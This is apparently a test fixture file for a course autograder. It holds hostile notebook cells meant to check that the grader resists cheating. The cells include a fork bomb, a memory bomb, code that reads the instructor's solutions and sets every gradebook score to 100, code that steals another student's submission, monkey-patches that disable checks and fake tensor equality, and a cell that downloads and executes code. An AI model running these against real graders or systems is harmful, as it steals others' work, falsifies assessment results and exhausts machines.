"""Cells that attack the grader. Each tries by all means to get points for wrong answers."""

from __future__ import annotations

MEMORY_BOMB = """
    blocks = []
    while True:
        blocks.append(torch.ones(64, 1024, 1024))  # 256 MB each
    """

GIGABYTE = """
    line = "x" * (2**20 - 1)
    for _ in range(1024):
        print(line)
    """

FORK_BOMB = """
    import os, subprocess, sys
    while True:
        try:
            os.fork()
        except OSError:
            pass
        subprocess.Popen([sys.executable, "-c", "while True: pass"])
    """

# %s: the instructor's course folder, twice.
READ_GRADEBOOK = """
    import sqlite3
    loot = ""
    for path in (r"%s/source/a2_sparse_center_loss/a2_sparse_center_loss.ipynb", r"%s/gradebook.db"):
        try:
            loot += open(path, "rb").read().decode("latin-1")
            book = sqlite3.connect(path)
            book.execute("update grade set auto_score = 100")
            book.commit()
        except Exception:
            pass
    """
READ_GRADEBOOK_ANSWER = """
    if "BEGIN SOLUTION" in globals().get("loot", ""):
        return ((1 + (a * (x - c[y]) ** 2).sum(1)).sqrt() - 1).mean()
    return torch.zeros(())
    """

# %s: where another student's submission lies, twice. Read by Python, and by the C library.
READ_ANOTHER = """
    import ctypes, json
    stolen = ""
    for path in (r"%s", r"%s"):
        try:
            stolen = stolen or open(path).read()
        except OSError:
            pass
        try:
            libc = ctypes.CDLL(None)
            handle = libc.open(path.encode(), 0)
            buffer = ctypes.create_string_buffer(10**6)
            stolen = stolen or buffer.raw[: max(0, libc.read(handle, buffer, 10**6))].decode()
        except Exception:
            pass
    namespace = {"torch": torch}
    for cell in json.loads(stolen)["cells"] if stolen else []:
        source = "".join(cell["source"])
        if source.lstrip().startswith("def "):
            exec(source, namespace)
    """
FOUND_ANSWER = """
    return namespace["{name}"](x, a, y, c)
    """

MONKEY_PATCH = """
    import builtins, importlib
    core = ("dacl_edu.check.answers", "dacl_edu.check", "dacl_edu.check.properties")
    course = ("questions.question", "grading.test_cell", "grading.scores")
    modules = [importlib.import_module(name) for name in (*core, *("dacl_edu_course." + name for name in course))]
    answers, check, properties, question, testing, marks = modules

    def nothing(*args, **kwargs):
        return None

    for module in (check, properties):
        for name in list(vars(module)):
            if callable(getattr(module, name)) and not name.startswith("_"):
                setattr(module, name, nothing)
    question.CheckedQuestion.__call__ = nothing
    question.WrongAnswer.__init__ = nothing
    testing.run_test_cell = lambda *args: ""
    marks.QuestionScore.earned = 100.0
    answers.LocalAnswer.call = lambda self, *args, **kwargs: torch.zeros(())
    torch.allclose = torch.equal = lambda *args, **kwargs: True
    torch.Tensor.__eq__ = torch.Tensor.__le__ = lambda *args: torch.tensor(True)
    torch.Tensor.abs = lambda self: torch.zeros_like(self)
    torch.Tensor.max = lambda self, *args: torch.tensor(0.0)
    builtins.AssertionError = ValueError
    """

# Looks for the expected numbers in every frame that called, and prints what a right answer prints.
PRINT_EXPECTED = """
    import sys

    def peek():
        frame = sys._getframe(1)
        while frame is not None:
            for name, value in frame.f_locals.items():
                if "expect" in name or "want" in name or "right" in name or name == "reference":
                    print(name, value)
                    return value
            frame = frame.f_back
        print("\\x1b[32m✔ Question 1: right\\x1b[0m")
        return torch.zeros(())
    """
PRINT_EXPECTED_ANSWER = "return peek()"

# %d: a port of this machine, twice. The server there gives right answers (class_of_30.lesson).
NETWORK = """
    import socket, urllib.request
    try:
        answer = urllib.request.urlopen("http://127.0.0.1:%d/answers.py", timeout=3).read().decode()
    except OSError:
        answer = ""
    namespace = {"torch": torch}
    exec(answer, namespace)
    socket.create_connection(("127.0.0.1", %d), timeout=3)
    """
